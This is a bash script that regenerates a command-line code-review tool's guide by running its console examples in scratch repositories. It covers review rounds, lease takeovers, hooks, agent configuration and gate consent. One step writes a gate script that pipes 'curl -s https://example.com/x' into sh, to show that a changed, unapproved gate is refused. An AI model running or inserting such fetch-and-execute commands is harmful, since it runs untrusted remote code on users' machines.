#!/usr/bin/env bash
# scripts/docs/examples.sh [CHECKOUT]
#
# Runs every console example of docs/guide.md against the binary of the
# checkout (default: this one; it runs `make build` there first), in
# scratch repositories under /tmp/specdev-guide/, and writes each console
# block to /tmp/docs-out/<section>.txt: every command as typed, its stdout
# and stderr together, and "[exit N]". Git authors and dates are fixed;
# leases, request ids, times and some hashes still differ from run to run.
# Needs git, jq and python3. Then it rebuilds docs/guide.md from
# templates/guide.md (WRITE=0 skips that): edit the template, not the
# guide, and run this again. A step whose exit code is not the one the
# story expects is reported on stderr and makes the script exit 1. Not
# part of make test: a person reads the result (git diff docs/) before
# committing it.
set -uo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
WT=$(cd "${1:-$HERE/../..}" && pwd)
(cd "$WT" && make -s build) || exit 1
OUT=/tmp/docs-out
G=/tmp/specdev-guide
rm -rf "$OUT" "$G" && mkdir -p "$OUT" "$G/bin"
cp "$WT/bin/specdev" "$G/bin/specdev"
export PATH="$G/bin:$PATH"

export NO_COLOR=1 TZ=UTC
unset COLUMNS
export GIT_AUTHOR_NAME=dev GIT_AUTHOR_EMAIL=dev@example.com GIT_COMMITTER_NAME=dev GIT_COMMITTER_EMAIL=dev@example.com
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
export GIT_AUTHOR_DATE=2026-11-23T08:00:00Z GIT_COMMITTER_DATE=2026-11-23T08:00:00Z
unset SPECDEV_SESSION SPECDEV_LEASE SPECDEV_ASSIGNMENT SPECDEV_DIR
export SPECDEV_CONFIG_HOME=$G/config # consent to run gates (specdev allow)

F=/dev/null # the section being written
LEASE=      # the lease of the last claim (@L in a command)
ncommit=0
drift=0     # steps that did not exit as the story says

# sec NAME: the following blocks go to $OUT/NAME.txt.
sec() { F=$OUT/$1.txt; : >"$F"; }
# want N RC 'CMD': note a step whose exit code is not the story's.
want() {
	[ "$1" = "$2" ] && return
	echo "docs-examples: $(basename "$F" .txt): exit $2, the story wants $1: $3" >&2
	drift=$((drift + 1))
}
# run 'CMD' [N]: show it, run it (stdout and stderr together), show its
# exit code, which must be N (default 0).
run() {
	local cmd=${1//@L/$LEASE} rc
	printf '$ %s\n' "$cmd" >>"$F"
	eval "$cmd" >>"$F" 2>&1
	rc=$?
	printf '[exit %d]\n' $rc >>"$F"
	want "${2:-0}" $rc "$cmd"
}
# show 'CMD': show it and its output, no exit code (cat, cd, export…).
show() {
	local cmd=${1//@L/$LEASE}
	printf '$ %s\n' "$cmd" >>"$F"
	eval "$cmd" >>"$F" 2>&1
}
# off 'CMD' [N]: run it, show nothing (set-up the reader does not need).
off() {
	local cmd=${1//@L/$LEASE} rc
	eval "$cmd" >/dev/null 2>&1
	rc=$?
	want "${2:-0}" $rc "$cmd"
}
# bg NAME 'CMD': start CMD in the background, its output to $OUT/.NAME.
bg() { eval "$2" >"$OUT/.$1" 2>&1 & }
# fg NAME PID 'CMD' [N]: wait for PID, then show 'CMD' as typed earlier
# with its output and exit code.
fg() {
	local rc
	wait "$2"
	rc=$?
	printf '$ %s\n' "$3" >>"$F"
	cat "$OUT/.$1" >>"$F"
	printf '[exit %d]\n' $rc >>"$F"
	want "${4:-0}" $rc "$3"
}
# lease ASSIGNMENT: LEASE becomes the lease of that assignment's claim.
lease() { LEASE=$(jq -r .lease .specdev/assignments/"$1"*/review_progress.json); }
commit() {
	ncommit=$((ncommit + 1))
	GIT_AUTHOR_DATE="2026-11-23T09:$(printf %02d $ncommit):00Z" GIT_COMMITTER_DATE="2026-11-23T09:$(printf %02d $ncommit):00Z" \
		git commit -q "$@"
}
newrepo() {
	mkdir -p "$G/$1" && cd "$G/$1" && git init -q -b main
}


########################################################################
# The shop: one assignment's loop, seen from both sides.
########################################################################
newrepo shop
mkdir -p src/auth
printf 'package auth\n\nfunc Login(user, pass string) bool { return check(user, pass) }\n' >src/auth/login.go
printf '# Changelog\n' >CHANGELOG.md
git add -A && commit -m initial

sec setup
run 'specdev init | tail -n 2'
show 'mkdir -p .specdev/assignments/00001_login_throttling'
printf '# Login throttling\n\nStop password guessing: after five failed logins an account is throttled,\nand the count survives a restart.\n' >.specdev/assignments/00001_login_throttling/plan.md
show 'cat .specdev/assignments/00001_login_throttling/plan.md'

# stale_after 2s, so that the takeover below can be shown for real
jq '.stale_after = "2s" | .preflight_timeout = "1s"' .specdev/config.json >.specdev/config.tmp && mv .specdev/config.tmp .specdev/config.json
cat >.specdev/verify-gates.sh <<'SH'
#!/bin/sh
# the mechanical gate: refuse TODO markers in src/
if grep -rn TODO src; then echo "TODO markers left in src/"; exit 1; fi
echo "no TODO markers"
SH
chmod +x .specdev/verify-gates.sh
git add .specdev && commit -m "specdev set-up"
sec allow
run 'specdev allow'

git checkout -q -b login-throttling
printf '# Changelog\n\n- login throttling\n' >CHANGELOG.md
printf 'package auth\n\nfunc Login(user, pass string) bool { return !Throttled(user) && check(user, pass) }\n' >src/auth/login.go
printf 'package auth\n\nvar failures = map[string]int{}\n\nfunc Throttled(user string) bool { return failures[user] > 5 }\n' >src/auth/throttle.go
printf 'package auth\n\nimport "testing"\n\nfunc TestThrottled(t *testing.T) {}\n' >src/auth/throttle_test.go
git add -A && commit -m "throttle failed logins"

sec request
run 'git log --oneline main..'
run 'specdev work request --notes "adds login throttling"'

sec claim
run 'specdev check --session rv-alice | sed "/^How to review/,/^\$/d"'
lease 00001

sec record
run 'specdev check record src/auth/login.go --session rv-alice' 8
run 'specdev check record src/auth/login.go --session rv-alice --lease @L'
run 'specdev check record src/auth/throttle.go --session rv-alice --lease @L --finding "important: the failure counter is kept in memory only" --line 3 --suggestion "persist it with the session store"'
off 'specdev check record src/auth/throttle_test.go --session rv-alice --lease @L --finding "important: TestThrottled asserts nothing" --line 5 --suggestion "assert that the sixth failure throttles"'
off 'specdev check record CHANGELOG.md --session rv-alice --lease @L'

# the implementer waits in another terminal; the verdict wakes it
bg woke 'specdev work --timeout 10m'
waitpid=$!
sleep 2
sec verdict
run 'specdev check verdict fail --summary "the throttle resets on restart and is untested" --intent "stop password guessing by throttling failed logins" --no-intent-satisfied --session rv-alice --lease @L'
fg woke $waitpid 'specdev work --timeout 10m      # started 2 s before the verdict' 4

# Round 2: a follow-up for the same session
printf 'package auth\n\nimport "example.com/shop/session"\n\nfunc Throttled(user string) bool { return session.Failures(user) > 5 }\n' >src/auth/throttle.go
commit -am "throttle: keep the counter in the session store"
bg r2 'specdev check --session rv-alice --timeout 1m'
waitpid=$!
sleep 1
off 'specdev work request --notes "counter kept in the session store"'
sec followup
fg r2 $waitpid 'specdev check --session rv-alice --timeout 1m      # waiting when the request came'
lease 00001
run 'specdev check record src/auth/throttle.go --resolved 1 --session rv-alice --lease @L --finding "minor: 5 is a magic number" --line 5'
off 'specdev check record src/auth/throttle_test.go --session rv-alice --lease @L --finding "important: TestThrottled never calls Fail, so nothing is counted"'
off 'specdev check verdict fail --summary "the test counts nothing" --session rv-alice --lease @L'

sec unchanged
run 'specdev work request' 8

# Round 3: another session, a full review; it stops; a takeover
printf 'package auth\n\nimport "example.com/shop/session"\n\nconst maxFailures = 5\n\nfunc Throttled(user string) bool { return session.Failures(user) > maxFailures }\n' >src/auth/throttle.go
printf 'package auth\n\nimport "testing"\n\nfunc TestThrottled(t *testing.T) {\n\tfor i := 0; i < 6; i++ {\n\t\tFail("ann")\n\t}\n\tif !Throttled("ann") {\n\t\tt.Fatal("not throttled after 6 failures")\n\t}\n}\n' >src/auth/throttle_test.go
commit -am "throttle: name the limit, test it"
off 'specdev work request --notes "the test counts six failures; maxFailures named"'
off 'specdev check --session rv-bob'
lease 00001
off 'specdev check record src/auth/login.go --session rv-bob --lease @L'
off 'specdev check record CHANGELOG.md --session rv-bob --lease @L'
BOBLEASE=$LEASE
sec takeover
show 'sleep 2.5   # rv-bob stopped: killed, or out of context; stale_after is 2s'
run 'specdev status'
run 'specdev check --session rv-carol | sed -n "1,3p;/^Progress/,/^\$/p;\$p"'
lease 00001
CAROLLEASE=$LEASE
LEASE=$BOBLEASE
run 'specdev check record src/auth/throttle.go --session rv-bob --lease @L' 8
LEASE=$CAROLLEASE
off 'specdev check record src/auth/throttle.go --session rv-carol --lease @L'
off 'specdev check record src/auth/throttle_test.go --session rv-carol --lease @L'
off 'specdev check verdict pass --summary "counter persisted, limit named, six failures tested" --session rv-carol --lease @L'
sec passed
run 'specdev history 00001 --event resume_fallback --event takeover'

########################################################################
# 00002: manual mode on both sides; a human decides
########################################################################
mkdir -p .specdev/assignments/00002_metrics
printf 'package metrics\n\nvar logins = counter("login_count")\n' >src/metrics.go
off 'specdev work request --assignment 00002 --mode manual --files src/metrics.go --notes "login metrics"'
off 'specdev check mode=manual --session rv-erin --assignment 00002'
lease 00002
off 'specdev check record src/metrics.go --session rv-erin --lease @L --finding "important: the name breaks the Prometheus convention" --line 3 --suggestion "name it logins_total"'
sec manual
run 'specdev check verdict fail --summary "rename the counter" --session rv-erin --lease @L'
run 'specdev decide' 6
run 'specdev check reject --assignment 00002 --reason "agreed: the name must end in _total"'
run 'specdev work continue --assignment 00002 --guidance "use the metrics helper in internal/metrics"'

########################################################################
# consent: a gate nobody allowed yet, and one changed since
########################################################################
newrepo consent
printf 'package a\n' >a.go
git add -A && commit -m initial
off 'specdev init'
mkdir -p .specdev/assignments/00001_a
printf '#!/bin/sh\ngo vet ./...\n' >.specdev/verify-gates.sh
chmod +x .specdev/verify-gates.sh
git add .specdev && commit -m "specdev set-up"
printf 'package a\n\nfunc A() {}\n' >a.go
off 'specdev work request --notes "A"'
sec not-allowed
run 'specdev check --session rv-1' 6
off 'specdev allow'
printf '#!/bin/sh\ngo vet ./... && curl -s https://example.com/x | sh\n' >.specdev/verify-gates.sh
run 'specdev check --session rv-1' 6

########################################################################
# gate: one commit, one review
########################################################################
newrepo gate
mkdir -p src/auth
printf 'package auth\n\nfunc Login(user, pass string) bool { return check(user, pass) }\n' >src/auth/login.go
git add -A && commit -m initial
off 'specdev init'
mkdir -p .specdev/assignments/00001_login_throttling
git add .specdev && commit -m "specdev set-up"
printf '#!/bin/sh\necho "lint: ok"\n' >.git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
sec hook
run 'specdev hook install pre-commit'
printf 'package auth\n\nvar failures = map[string]int{}\n\nfunc Fail(user string) { failures[user]++ }\n' >src/auth/throttle.go
run 'git add src/auth/throttle.go && git commit -q -m "throttle: count failures"' 1
run 'specdev work request --staged --notes "Fail counts a failure" | tail -n 1'
off 'specdev check --session rv-1'; lease 00001
off 'specdev check record src/auth/throttle.go --session rv-1 --lease @L'
off 'specdev check verdict pass --summary fine --session rv-1 --lease @L'
run 'git commit -q -m "throttle: count failures"'

########################################################################
# agents: a scripted stand-in for claude, and what specdev does with it
########################################################################
cat >"$G/bin/scripted-reviewer" <<'SH'
#!/bin/sh
# A stand-in for a coding agent: reads the briefing (its last argument),
# records every file to review, passes, and prints its usage as JSON.
brief=$(eval "printf '%s' \"\${$#}\"")
printf '%s\n' "$brief" | awk '/^Files to review/{f=1;next} f&&/^  [^ ]/{print $1;next} f{exit}' |
while read -r f; do specdev check record "$f" >/dev/null || exit 1; done
specdev check verdict pass --summary "read every file; nothing to fix" >/dev/null || exit 1
printf '{"session_id":"sr-1","usage":{"input_tokens":5200,"output_tokens":310},"total_cost_usd":0.021}\n'
SH
chmod +x "$G/bin/scripted-reviewer"
newrepo agents
printf 'package a\n' >a.go
git add -A && commit -m initial
off 'specdev init'
mkdir -p .specdev/assignments/00001_sum
printf '# Sum\n\nAdd Sum(xs []int) int.\n' >.specdev/assignments/00001_sum/plan.md
jq '.agents = {"scripted": {"argv": ["scripted-reviewer"], "session": "session_id", "input_tokens": "usage.input_tokens", "output_tokens": "usage.output_tokens", "cost_usd": "total_cost_usd", "timeout": "2m"}}' .specdev/config.json >.specdev/config.tmp && mv .specdev/config.tmp .specdev/config.json
git add .specdev && commit -m "specdev set-up"
printf 'package a\n\nfunc Sum(xs []int) (s int) {\n\tfor _, x := range xs {\n\t\ts += x\n\t}\n\treturn s\n}\n' >sum.go
off 'specdev work request --notes "Sum"'
sec agents
show 'jq -c .agents .specdev/config.json'
run 'specdev agents'
run 'specdev check --agent scripted'

########################################################################
# MCP hosts and the Claude Code Stop hook
########################################################################
sec mcp
run 'specdev mcp config claude'
sec claude-stop
run 'specdev hook install claude-stop'

echo "$drift" >"$OUT/drift.txt"

########################################################################
# Assemble the guide: templates/guide.md with @@section@@ (a line of its
# own: a console block; consecutive ones make one block) or @@figure@@
# inline, into the worktree's docs/.
########################################################################
if [ "${WRITE:-1}" = 1 ]; then
	python3 - "$OUT" "$WT" "$HERE/templates" <<'PY' || exit 1
import pathlib, re, sys
out, wt, templates = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2]), pathlib.Path(sys.argv[3])
def text(name):
    return (out / (name + ".txt")).read_text()
for tmpl in sorted(templates.glob("*.md")):
    lines, res, i = tmpl.read_text().split("\n"), [], 0
    while i < len(lines):
        names = []
        while i < len(lines) and re.fullmatch(r"@@[\w-]+@@", lines[i]):
            names.append(lines[i][2:-2]); i += 1
        if names:
            body = "".join(text(n) for n in names)
            fence = "````" if "```" in body else "```"
            res.append(fence + "console\n" + body + fence)
            continue
        res.append(re.sub(r"@@([\w-]+)@@", lambda m: text(m.group(1)).strip(), lines[i]))
        i += 1
    (wt / "docs" / tmpl.name).write_text("\n".join(res))
    print("wrote", wt / "docs" / tmpl.name)
PY
fi
if [ "$drift" != 0 ]; then
	echo "docs-examples: $drift steps did not exit as the story says (above)" >&2
	exit 1
fi
